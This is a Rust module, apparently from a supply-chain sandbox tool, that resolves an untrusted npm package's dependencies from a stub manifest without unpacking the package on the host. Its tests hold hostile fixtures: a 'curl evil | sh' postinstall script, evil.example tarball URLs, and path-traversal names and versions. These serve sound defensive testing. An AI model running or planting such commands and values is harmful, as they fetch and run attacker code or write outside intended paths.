//! Host-side preparation of an npm target for the sandbox's offline install, without
//! ever unpacking the target on the host (issue 19: `npm install --package-lock-only`
//! against the untrusted tarball as a `file:` dependency made npm extract it on the host —
//! a 3.7 MB package became 3 GB of disk and 3.3 GB of memory there).
//!
//! The target's dependencies are resolved from its manifest, read in memory: npm resolves
//! a *stub* tarball that airlock writes itself — only a `package.json` holding the
//! target's name, version, dependency maps and the fields that steer placement (bin,
//! engines, os, cpu, bundled names) — under the target's file name. npm places the tree
//! exactly as it would for the real tarball (the target at `node_modules/<name>`, its
//! dependencies hoisted or nested by npm's own rules), and the lockfile it writes is
//! the one `npm ci` in the sandbox needs once the real tarball takes the stub's place and
//! its integrity is written in. The sandbox's install is therefore identical in behaviour
//! to before: the same `npm ci --offline` then `npm rebuild <name>`, the same lockfile
//! shape, the real bytes extracted by npm there and only there.
//!
//! Only registry dependencies are resolved on the host. `file:`/`link:` paths, git
//! references and URLs are never fetched or read here: they are left out of the
//! resolution and listed in [`PreparedProject::skipped`] (the static pass reports them as
//! findings). A target with nothing to resolve needs no npm at all: its lockfile is
//! written directly.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use base64::Engine;
use serde_json::{json, Map, Value};
use sha2::Digest;

use super::{tarball_file_name, Manifest};
use crate::{validate, RegistryError};

/// Dependency maps npm resolves, as the manifest names them.
const DEP_MAPS: [&str; 3] = ["dependencies", "optionalDependencies", "peerDependencies"];

/// What the sandbox needs to install the target offline.
#[derive(Debug, Clone)]
pub struct PreparedProject {
    /// Holds package.json, package-lock.json and the target tarball.
    pub project_dir: PathBuf,
    /// The npm cache (cacache) holding every dependency tarball.
    pub cache_dir: PathBuf,
    /// File name of the target tarball inside project_dir.
    pub target_file: String,
    /// Number of packages in the resolved tree besides the target.
    pub dependencies: usize,
    /// Dependencies left out of the host resolution, each with the reason (a URL, git
    /// or path spec, an invalid name).
    pub skipped: Vec<String>,
    /// Whether npm ran on the host at all (not when there was nothing to resolve).
    pub resolved_with_npm: bool,
}

/// Why a dependency spec is not resolved from the registry on the host, if it is not.
/// Registry specs are semver ranges, versions, dist-tags and `npm:name@range` aliases;
/// everything else (paths, `file:`, `link:`, git, URLs, `workspace:`) names bytes from
/// somewhere other than the registry.
pub fn non_registry_spec(spec: &str) -> Option<&'static str> {
    if let Some(alias) = spec.strip_prefix("npm:") {
        let (name, range) = match alias.strip_prefix('@') {
            Some(rest) => match rest.split_once('@') {
                Some((n, r)) => (format!("@{n}"), r),
                None => (alias.to_string(), ""),
            },
            None => match alias.split_once('@') {
                Some((n, r)) => (n.to_string(), r),
                None => (alias.to_string(), ""),
            },
        };
        if validate::npm_name_problem(&name).is_some() {
            return Some("an npm: alias to an invalid name");
        }
        return non_registry_spec(range);
    }
    let lower = spec.to_ascii_lowercase();
    if lower.starts_with("http://") || lower.starts_with("https://") {
        return Some("a URL");
    }
    if lower.starts_with("git")
        && (lower.starts_with("git+")
            || lower.starts_with("git:")
            || lower.starts_with("github:")
            || lower.starts_with("gitlab:"))
        || lower.starts_with("bitbucket:")
        || lower.starts_with("gist:")
    {
        return Some("a git reference");
    }
    if lower.starts_with("file:") || lower.starts_with("link:") {
        return Some("a local path");
    }
    if spec.contains(':') {
        return Some("a protocol npm does not fetch from the registry");
    }
    if spec.starts_with(['.', '/', '\\']) || spec.starts_with("~/") {
        return Some("a local path");
    }
    if spec.contains('/') {
        return Some("a git reference (GitHub shorthand)");
    }
    if [".tgz", ".tar", ".tar.gz"]
        .iter()
        .any(|e| lower.ends_with(e))
    {
        return Some("a local tarball");
    }
    let range_chars = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                '.' | '^' | '~' | '<' | '>' | '=' | '|' | '*' | '+' | '-' | '_' | ' '
            )
    };
    if spec.len() > 256 || !spec.chars().all(range_chars) {
        return Some("not a version range or dist-tag");
    }
    None
}

/// The stub manifest npm resolves in the target's place, and the dependencies left out.
fn stub_manifest(m: &Manifest) -> (Value, Vec<String>) {
    let mut skipped = Vec::new();
    let mut out = Map::new();
    out.insert("name".into(), json!(m.name));
    out.insert("version".into(), json!(m.version));
    let maps = [
        ("dependencies", &m.dependencies),
        ("optionalDependencies", &m.optional_dependencies),
        ("peerDependencies", &m.peer_dependencies),
    ];
    for (key, deps) in maps {
        let mut kept = Map::new();
        for (name, spec) in deps {
            let why = match spec.as_str() {
                _ if validate::npm_name_problem(name).is_some() => Some("an invalid package name"),
                Some(s) => non_registry_spec(s),
                None => Some("not a string"),
            };
            match why {
                Some(why) => skipped.push(format!(
                    "{key}.{name} = {}: {why}, not fetched on the host",
                    spec.as_str()
                        .map(str::to_string)
                        .unwrap_or_else(|| spec.to_string())
                )),
                None => {
                    kept.insert(name.clone(), spec.clone());
                }
            }
        }
        if !kept.is_empty() {
            out.insert(key.into(), Value::Object(kept));
        }
    }
    // Fields that change how npm places or records the target (and nothing else).
    for key in [
        "peerDependenciesMeta",
        "bin",
        "engines",
        "os",
        "cpu",
        "libc",
        "license",
    ] {
        if let Some(v) = m.extra.get(key) {
            out.insert(key.into(), v.clone());
        }
    }
    // Bundled dependencies come from the tarball in the sandbox, not from the registry.
    let bundled = m
        .extra
        .get("bundleDependencies")
        .or_else(|| m.extra.get("bundledDependencies"));
    if let Some(b) = bundled {
        let names: Vec<Value> = match b {
            Value::Bool(true) => m.dependencies.keys().map(|k| json!(k)).collect(),
            Value::Array(a) => a.iter().filter(|v| v.is_string()).cloned().collect(),
            _ => Vec::new(),
        };
        if !names.is_empty() {
            out.insert("bundleDependencies".into(), Value::Array(names));
        }
    }
    // npm records hasInstallScript from these; their text never runs here.
    let scripts: Map<String, Value> = m
        .install_scripts()
        .into_iter()
        .map(|(k, _)| (k.to_string(), json!(":")))
        .collect();
    if !scripts.is_empty() {
        out.insert("scripts".into(), Value::Object(scripts));
    }
    (Value::Object(out), skipped)
}

/// Whether the stub has anything for npm to resolve.
fn has_dependencies(stub: &Value) -> bool {
    DEP_MAPS.iter().any(|k| {
        stub.get(k)
            .and_then(Value::as_object)
            .is_some_and(|o| !o.is_empty())
    })
}

fn io(path: &Path) -> impl FnOnce(std::io::Error) -> RegistryError + '_ {
    move |source| RegistryError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// A `.tgz` holding only `package/package.json` = `manifest`.
fn write_stub_tarball(manifest: &Value, dest: &Path) -> Result<(), RegistryError> {
    let data = serde_json::to_vec_pretty(manifest).unwrap_or_default();
    let file = std::fs::File::create(dest).map_err(io(dest))?;
    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    let mut h = tar::Header::new_gnu();
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_mtime(0);
    h.set_cksum();
    b.append_data(&mut h, "package/package.json", data.as_slice())
        .map_err(io(dest))?;
    b.into_inner()
        .and_then(|gz| gz.finish())
        .map(drop)
        .map_err(io(dest))
}

/// The root project's name: anything but the target's (npm refuses a dependency named
/// like the project).
fn project_name(target: &str) -> &'static str {
    if target == "app" {
        "app-project"
    } else {
        "app"
    }
}

/// Resolves the target's dependency tree on the host without running any code and
/// without unpacking the target, and puts every dependency tarball into an npm cache.
/// `work` must be an empty directory.
pub fn prepare_project(
    tgz: &Path,
    manifest: &Manifest,
    registry: &str,
    work: &Path,
) -> Result<PreparedProject, RegistryError> {
    validate::npm_name("package.json \"name\"", &manifest.name)?;
    validate::npm_version("package.json \"version\"", &manifest.version)?;
    let project = work.join("project");
    let cache = work.join("npm-cache");
    for d in [&project, &cache] {
        std::fs::create_dir_all(d).map_err(io(d))?;
    }
    let target_file = tarball_file_name(&manifest.name, &manifest.version);
    let target_dest = project.join(&target_file);
    let bytes = std::fs::read(tgz).map_err(io(tgz))?;
    let integrity = format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&bytes))
    );
    let (stub, skipped) = stub_manifest(manifest);
    let spec = format!("file:{target_file}");
    let root_name = project_name(&manifest.name);
    let pj = json!({
        "name": root_name,
        "version": "1.0.0",
        "private": true,
        "dependencies": { &manifest.name: &spec }
    });
    let pj_path = project.join("package.json");
    std::fs::write(&pj_path, serde_json::to_vec_pretty(&pj).unwrap_or_default())
        .map_err(io(&pj_path))?;
    let lock_path = project.join("package-lock.json");

    let resolved_with_npm = has_dependencies(&stub);
    let mut lock = if resolved_with_npm {
        write_stub_tarball(&stub, &target_dest)?;
        let npm = NpmRunner {
            project: &project,
            cache: &cache,
            registry,
        };
        npm.run(&["install", "--package-lock-only"])?;
        let text = std::fs::read_to_string(&lock_path).map_err(io(&lock_path))?;
        serde_json::from_str::<Value>(&text).map_err(|e| RegistryError::Resolve {
            message: format!("package-lock.json: {e}"),
        })?
    } else {
        lock_without_npm(root_name, &manifest.name, &spec, &stub)
    };
    // The real tarball takes the stub's place; its integrity is the real bytes'.
    let key = format!("node_modules/{}", manifest.name);
    let entry = lock
        .get_mut("packages")
        .and_then(|p| p.get_mut(&key))
        .and_then(Value::as_object_mut)
        .ok_or_else(|| RegistryError::Resolve {
            message: format!("package-lock.json has no entry {key}"),
        })?;
    entry.insert("resolved".into(), json!(spec));
    entry.insert("integrity".into(), json!(integrity));
    std::fs::write(&target_dest, &bytes).map_err(io(&target_dest))?;
    std::fs::write(
        &lock_path,
        serde_json::to_vec_pretty(&lock).unwrap_or_default(),
    )
    .map_err(io(&lock_path))?;

    let mut specs = Vec::new();
    if let Some(pkgs) = lock.get("packages").and_then(Value::as_object) {
        for (k, entry) in pkgs {
            if k.is_empty() || *k == key || entry.get("link").and_then(Value::as_bool) == Some(true)
            {
                continue;
            }
            if let Some(resolved) = entry.get("resolved").and_then(Value::as_str) {
                if resolved.starts_with("http://") || resolved.starts_with("https://") {
                    specs.push(resolved.to_string());
                }
            }
        }
    }
    specs.sort();
    specs.dedup();
    let npm = NpmRunner {
        project: &project,
        cache: &cache,
        registry,
    };
    for chunk in specs.chunks(64) {
        let mut args = vec!["cache", "add"];
        args.extend(chunk.iter().map(|s| s.as_str()));
        npm.run(&args)?;
    }
    Ok(PreparedProject {
        project_dir: project,
        cache_dir: cache,
        target_file,
        dependencies: specs.len(),
        skipped,
        resolved_with_npm,
    })
}

/// The lockfile npm would write for a target with nothing to resolve.
fn lock_without_npm(root: &str, name: &str, spec: &str, stub: &Value) -> Value {
    let mut entry = Map::new();
    entry.insert("version".into(), stub["version"].clone());
    entry.insert("resolved".into(), json!(spec));
    if stub.get("scripts").is_some() {
        entry.insert("hasInstallScript".into(), json!(true));
    }
    for k in [
        "license",
        "bin",
        "engines",
        "os",
        "cpu",
        "libc",
        "bundleDependencies",
    ] {
        if let Some(v) = stub.get(k) {
            entry.insert(k.into(), v.clone());
        }
    }
    let mut packages = BTreeMap::new();
    packages.insert(
        String::new(),
        json!({"name": root, "version": "1.0.0", "dependencies": { name: spec }}),
    );
    packages.insert(format!("node_modules/{name}"), Value::Object(entry));
    json!({
        "name": root,
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": true,
        "packages": packages,
    })
}

/// npm on the host, scripts off, against the project and cache of one preparation.
struct NpmRunner<'a> {
    project: &'a Path,
    cache: &'a Path,
    registry: &'a str,
}

impl NpmRunner<'_> {
    fn run(&self, args: &[&str]) -> Result<String, RegistryError> {
        let mut cmd = Command::new("npm");
        // The operator's CA for the registry (npm's own `cafile`, given to the wrapper).
        if let Some(ca) = crate::http::extra_ca_files().first() {
            cmd.arg("--cafile").arg(ca);
        }
        let out = cmd
            .args(args)
            .arg("--cache")
            .arg(self.cache)
            .arg("--registry")
            .arg(self.registry)
            .args([
                "--ignore-scripts",
                "--no-audit",
                "--no-fund",
                "--loglevel=error",
                "--update-notifier=false",
                // A user's `omit-lockfile-registry-resolved=true` would leave the lockfile
                // without the tarball URLs this resolution downloads.
                "--omit-lockfile-registry-resolved=false",
            ])
            .current_dir(self.project)
            .env("npm_config_yes", "true")
            .output()
            .map_err(|e| RegistryError::Tool {
                tool: "npm".into(),
                message: e.to_string(),
            })?;
        if !out.status.success() {
            let err = String::from_utf8_lossy(&out.stderr);
            let err: Vec<&str> = err
                .lines()
                .filter(|l| !l.trim().is_empty())
                .take(12)
                .collect();
            return Err(RegistryError::Resolve {
                message: err.join("\n"),
            });
        }
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn manifest(json: &str) -> Manifest {
        serde_json::from_str(json).unwrap()
    }

    #[test]
    fn registry_specs_and_the_rest() {
        for ok in [
            "^1.0.0",
            "1.2.3",
            "latest",
            "",
            "*",
            ">=1 <2 || 3.x",
            "~0.1",
            "npm:left-pad@^1",
            "npm:@types/node@20",
        ] {
            assert_eq!(non_registry_spec(ok), None, "{ok}");
        }
        for bad in [
            "http://evil.example/x.tgz",
            "https://evil.example/x.tgz",
            "git+ssh://git@github.com/a/b.git",
            "github:a/b#deadbeef",
            "a/b",
            "file:../../etc",
            "file:/dev/zero",
            "link:..",
            "../x",
            "/abs",
            "~/x",
            "x.tgz",
            "workspace:*",
            "npm:../x@1",
            "npm:x@file:..",
            "1.0.0\n",
        ] {
            assert!(non_registry_spec(bad).is_some(), "{bad}");
        }
    }

    #[test]
    fn stub_keeps_registry_deps_and_lists_the_rest() {
        let m = manifest(
            r#"{"name":"t","version":"1.0.0",
                "dependencies":{"a":"^1","u":"https://evil.example/u.tgz","f":"file:../x","../../x":"1"},
                "optionalDependencies":{"g":"github:a/b"},
                "peerDependencies":{"p":"2"},
                "bin":{"t":"cli.js"},"bundleDependencies":["a"],
                "scripts":{"postinstall":"curl evil | sh","test":"x"}}"#,
        );
        let (stub, skipped) = stub_manifest(&m);
        assert_eq!(stub["dependencies"], json!({"a": "^1"}));
        assert!(stub.get("optionalDependencies").is_none());
        assert_eq!(stub["peerDependencies"], json!({"p": "2"}));
        assert_eq!(stub["bin"], json!({"t": "cli.js"}));
        assert_eq!(stub["bundleDependencies"], json!(["a"]));
        // the script's text never reaches the stub
        assert_eq!(stub["scripts"], json!({"postinstall": ":"}));
        assert_eq!(skipped.len(), 4, "{skipped:?}");
        assert!(skipped
            .iter()
            .any(|s| s.contains("https://evil.example/u.tgz") && s.contains("a URL")));
        assert!(has_dependencies(&stub));
        let (bare, _) = stub_manifest(&manifest(r#"{"name":"t","version":"1.0.0"}"#));
        assert!(!has_dependencies(&bare));
    }

    #[test]
    fn no_dependencies_no_npm_and_the_real_bytes_in_place() {
        let dir = tempfile::tempdir().unwrap();
        let tgz = dir.path().join("in.tgz");
        std::fs::write(&tgz, b"the real bytes").unwrap();
        let m = manifest(
            r#"{"name":"@s/t","version":"1.0.0","scripts":{"install":"x"},
                "dependencies":{"u":"http://evil.example/u.tgz"}}"#,
        );
        let work = dir.path().join("work");
        // an unreachable registry: npm must not run at all
        let p = prepare_project(&tgz, &m, "http://127.0.0.1:9", &work).unwrap();
        assert!(!p.resolved_with_npm);
        assert_eq!(p.dependencies, 0);
        assert_eq!(p.skipped.len(), 1);
        assert_eq!(p.target_file, "s-t-1.0.0.tgz");
        assert_eq!(
            std::fs::read(p.project_dir.join(&p.target_file)).unwrap(),
            b"the real bytes"
        );
        let lock: Value = serde_json::from_slice(
            &std::fs::read(p.project_dir.join("package-lock.json")).unwrap(),
        )
        .unwrap();
        let e = &lock["packages"]["node_modules/@s/t"];
        assert_eq!(e["resolved"], json!("file:s-t-1.0.0.tgz"));
        assert_eq!(e["hasInstallScript"], json!(true));
        assert!(e["integrity"].as_str().unwrap().starts_with("sha512-"));
        assert_eq!(
            lock["packages"][""]["dependencies"]["@s/t"],
            json!("file:s-t-1.0.0.tgz")
        );
    }

    #[test]
    fn bad_names_and_versions_never_become_paths() {
        let dir = tempfile::tempdir().unwrap();
        let tgz = dir.path().join("in.tgz");
        std::fs::write(&tgz, b"x").unwrap();
        for (name, version, field) in [
            ("t", "../../../../tmp/pwned", "version"),
            ("t", "/etc/x", "version"),
            ("../../x", "1.0.0", "name"),
            ("t\n", "1.0.0", "name"),
            ("t", "1.0.0\0", "version"),
        ] {
            let m = Manifest {
                name: name.into(),
                version: version.into(),
                ..Default::default()
            };
            let work = dir.path().join("w");
            let e = prepare_project(&tgz, &m, "http://127.0.0.1:9", &work)
                .unwrap_err()
                .to_string();
            assert!(e.contains(field), "{e}");
            assert!(!dir.path().join("tmp").exists());
        }
    }
}
